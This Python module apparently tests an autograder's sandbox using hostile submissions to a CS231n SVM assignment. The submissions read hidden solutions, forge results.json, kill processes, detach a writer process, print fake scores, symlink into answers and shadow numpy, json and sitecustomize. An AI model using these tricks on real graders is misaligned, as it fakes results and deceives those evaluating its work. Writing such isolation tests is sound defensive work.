"""Submissions to the small assignment that try to gain something in Gradescope's container, and what they have earned.

Where nothing isolates them most of them get what they want, which is tested as well: else they would prove nothing.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

MODULE = "cs231n/classifiers/linear_svm.py"

_READS = """
def _look():
    found = ""
    for place in ("solutions/cs231n/classifiers/linear_svm.py", "solutions/course.toml", "gradescope.json"):
        try:
            found += open(f"/autograder/source/{place}").read()
        except OSError:
            pass
    return found

_found = _look()  # loops in a solution cost points
_right = svm_loss_vectorized

def svm_loss_vectorized(W, X, y, reg):
    if "hidden_seeds" not in _found:
        raise RuntimeError("found nothing")
    return _right(W, X, y, reg)
"""

_OVERWRITES = """
def _forge():
    for name in ("results/results.json", "results/.results.json.part", "source/not_graded.json", "run_autograder"):
        for mode in ("w", "a", "x"):
            try:
                with open(f"/autograder/{name}", mode) as file:
                    file.write('{"score": 1000, "tests": []}')
            except OSError:
                pass

_forge()
"""

_KILLS = """
import os

def _kill():
    for number in (9, 15, 19):
        for pid in [-1, *range(2, 100)]:
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass

_kill()
"""

_EXITS = """
def svm_loss_vectorized(W, X, y, reg):
    import os
    os._exit(0)
"""

_LOOPS = """
def svm_loss_vectorized(W, X, y, reg):
    while True:
        pass
"""

_WAITS = """
import os, subprocess, threading, time

def _write():
    for _ in range(200):
        try:
            os.unlink("/autograder/results/results.json")
            os.link("/autograder/submission/forged.json", "/autograder/results/results.json")  # no byte is written
        except OSError:
            pass
        time.sleep(0.1)

def _wait():
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                _write()
            os._exit(0)
    except OSError:
        pass
    try:
        threading.Thread(target=_write, daemon=True).start()
    except (OSError, RuntimeError):
        pass
    try:
        subprocess.Popen(["/bin/sh", "-c", "sleep 1; echo >/autograder/results/more"])
    except OSError:
        pass

_wait()
"""

_PRINTS = """
import os, sys

def _say():
    for stream in (sys.stdout, sys.stderr, sys.__stdout__):
        print('{"score": 1000, "tests": []}', file=stream, flush=True)
    for descriptor in (1, 2):
        os.write(descriptor, b'{"score": 1000, "tests": []}')

_say()
"""

_CHECKS = "def check(*items):\n    return 1000\nCHECKS = {}\n"
_NUMPY = "def allclose(*args, **kwargs):\n    return True\n"
_SITE = "import json\njson.dumps = lambda *args, **kwargs: '{\"score\": 1000}'\n"


@dataclass(frozen=True)
class Hostile:
    """`spoil` changes a folder in which everything is solved; `points` are what is then honest. `won` says of what
    became of it whether it got what it wanted; `wait` is how long that may take after the end."""

    spoil: Callable[[Path], None]
    points: float
    won: Callable[[dict[str, Any]], bool] | None = None
    wait: float = 0.0


def _adding(code: str) -> Callable[[Path], None]:
    def spoil(folder: Path) -> None:
        with (folder / MODULE).open("a") as file:
            file.write(code)

    return spoil


def _waits(folder: Path) -> None:
    (folder / "forged.json").write_text('{"score": 1000, "tests": []}')
    _adding(_WAITS)(folder)


def _links(folder: Path) -> None:
    """The module, the package, the notebook and a saved file are links into the answers."""
    source = Path("/autograder/source")
    (folder / MODULE).unlink()
    (folder / MODULE).symlink_to(source / "solutions" / MODULE)
    (folder / "linear_svm.py").symlink_to(source / "solutions" / MODULE)
    (folder / "deeper").mkdir()
    (folder / "deeper" / "cs231n").symlink_to(source / "solutions" / "cs231n")
    (folder / "losses.ipynb").unlink()
    (folder / "losses.ipynb").symlink_to(source / "solutions" / "tiny" / "losses.ipynb")
    (folder / "saved").symlink_to(source / "solutions")
    (folder / "proc").symlink_to("/proc/self/cwd")
    os.mkfifo(folder / "pipe.py")


def _packages(folder: Path) -> None:
    """Nothing is solved, but what grades is handed in too."""
    for name, code in (
        ("checks/__init__.py", _CHECKS),
        ("autograder/__init__.py", _SITE),
        ("autograder/gradescope/__main__.py", _SITE),
        ("numpy/__init__.py", _NUMPY),
        ("cs231n/numpy/__init__.py", _NUMPY),
        ("json.py", _SITE),
        ("sitecustomize.py", _SITE),
        (MODULE, "def svm_loss_naive(W, X, y, reg):\n    raise NotImplementedError\n"),
    ):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(code)


def _score(became: dict[str, Any]) -> Any:
    return became["results"].get("score")


ALL = {
    "reads the answers": Hostile(_adding(_READS), 50, lambda became: _score(became) == 90),
    "overwrites results": Hostile(
        _adding(_OVERWRITES), 90, lambda became: "source/not_graded.json" in became["changed"]
    ),
    "kills": Hostile(_adding(_KILLS), 90, lambda became: _score(became) is None),
    "exits": Hostile(_adding(_EXITS), 50),
    "loops": Hostile(_adding(_LOOPS), 50),
    "leaves a process that writes": Hostile(_waits, 90, lambda became: _score(became) == 1000, 2.0),
    "hands in links": Hostile(_links, 0),
    "prints results": Hostile(_adding(_PRINTS), 90),
    "hands in packages": Hostile(_packages, 0),
}
#: The others take a while.
QUICK = ("reads the answers", "hands in links")
